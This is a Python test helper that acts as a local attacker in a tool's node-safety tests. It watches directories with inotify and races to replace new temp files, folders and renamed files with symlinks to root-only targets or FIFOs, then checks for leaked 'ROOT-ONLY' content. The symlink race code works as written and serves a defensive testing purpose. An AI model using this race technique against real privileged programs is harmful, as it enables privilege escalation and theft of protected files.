#!/usr/bin/env python3
"""A local attacker for pallet's node-safety tests, run as an unprivileged user on a test host.

usage: race-attacker.py LOG FILE_TARGET DIR_TARGET DIR...

Watches each DIR with inotify. Whenever an entry appears there, it is swapped at once: pallet's
temp files and folders (".pallet*", as they are created), every new folder, and every file
renamed into place. The entry is renamed away and a symbolic link takes its name: to
FILE_TARGET (a root-only file) or, for a folder, to DIR_TARGET (a root-only folder); every
third file renamed into place is replaced by a FIFO instead. When a watched folder itself is
given to the attacker (pallet changing owners bottom-up), everything already in it is swapped
for links to FILE_TARGET at once. Anything the attacker gets hold of is read back and
checked for the sentinel text "ROOT-ONLY". Each action is one line in LOG:
"swap NAME", "fifo NAME", "leak NAME" (root-only content seen: the attack won), "ready".
Runs until killed (SIGTERM).
"""
import ctypes
import os
import signal
import struct
import sys

IN_CREATE = 0x00000100
IN_MOVED_TO = 0x00000080
IN_ISDIR = 0x40000000
IN_ATTRIB = 0x00000004
SENTINEL = b"ROOT-ONLY"

libc = ctypes.CDLL(None, use_errno=True)


def main() -> None:
    log_path, target, dir_target, dirs = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
    log = open(log_path, "a", buffering=1)
    fd = libc.inotify_init()
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init")
    watches = {}
    for d in dirs:
        wd = libc.inotify_add_watch(fd, d.encode(), IN_CREATE | IN_MOVED_TO | IN_ATTRIB)
        if wd < 0:
            raise OSError(ctypes.get_errno(), "inotify_add_watch " + d)
        watches[wd] = d
    # A test process may start its children with SIGTERM blocked: unblock it.
    signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGTERM])
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    log.write("ready\n")
    finals = 0
    ours = set()
    count = 0
    while True:
        data = os.read(fd, 65536)
        offset = 0
        while offset < len(data):
            wd, mask, _cookie, length = struct.unpack_from("iIII", data, offset)
            name = data[offset + 16: offset + 16 + length].rstrip(b"\0").decode(errors="replace")
            offset += 16 + length
            folder = watches.get(wd)
            if folder is not None and not name and mask & IN_ATTRIB:
                count = take_over(folder, target, ours, count, log)
                continue
            if folder is None or not name or ".stolen" in name or ".fifo" in name or not mask & (IN_CREATE | IN_MOVED_TO):
                continue
            path = os.path.join(folder, name)
            if path in ours:
                ours.discard(path)
                continue
            is_dir = bool(mask & IN_ISDIR)
            try:
                count += 1
                stolen = "%s.stolen%d" % (path, count)
                if is_dir and mask & IN_CREATE:
                    # Watch new folders too (whoever made them, and what is already in them):
                    # they may be handed over later.
                    watch_tree(fd, path, watches)
                if name.startswith(".pallet") or (is_dir and mask & IN_CREATE):
                    os.rename(path, stolen)
                    ours.add(path)
                    os.symlink(dir_target if is_dir else target, path)
                    log.write("swap %s\n" % name)
                elif mask & IN_MOVED_TO and not is_dir:
                    finals += 1
                    os.rename(path, stolen)
                    ours.add(path)
                    if finals % 3 == 0:
                        os.mkfifo(path)
                        log.write("fifo %s\n" % name)
                    else:
                        os.symlink(target, path)
                        log.write("swap %s\n" % name)
                else:
                    continue
                check(stolen, log)
            except OSError:
                pass


def watch_tree(fd: int, path: str, watches: dict) -> None:
    """Adds a watch on `path` and on every folder below it (links not followed)."""
    wd = libc.inotify_add_watch(fd, path.encode(), IN_CREATE | IN_MOVED_TO | IN_ATTRIB)
    if wd < 0:
        return
    watches[wd] = path
    try:
        names = os.listdir(path)
    except OSError:
        return
    for name in names:
        child = os.path.join(path, name)
        if os.path.isdir(child) and not os.path.islink(child) and ".stolen" not in name:
            watch_tree(fd, child, watches)


def take_over(folder: str, target: str, ours: set, count: int, log) -> int:
    """Once `folder` is the attacker's, swaps each entry in it for a link to `target`."""
    try:
        if os.lstat(folder).st_uid != os.getuid():
            return count
        names = os.listdir(folder)
    except OSError:
        return count
    for name in names:
        if ".stolen" in name:
            continue
        path = os.path.join(folder, name)
        count += 1
        try:
            os.rename(path, "%s.stolen%d" % (path, count))
            ours.add(path)
            os.symlink(target, path)
            log.write("swap %s\n" % name)
        except OSError:
            pass
    return count


def check(path: str, log) -> None:
    """Reads what the attacker grabbed (never blocking) and reports root-only content."""
    try:
        if os.path.islink(path) or not os.path.isfile(path):
            return
        with open(path, "rb") as handle:
            if SENTINEL in handle.read():
                log.write("leak %s\n" % path)
    except OSError:
        pass


if __name__ == "__main__":
    main()
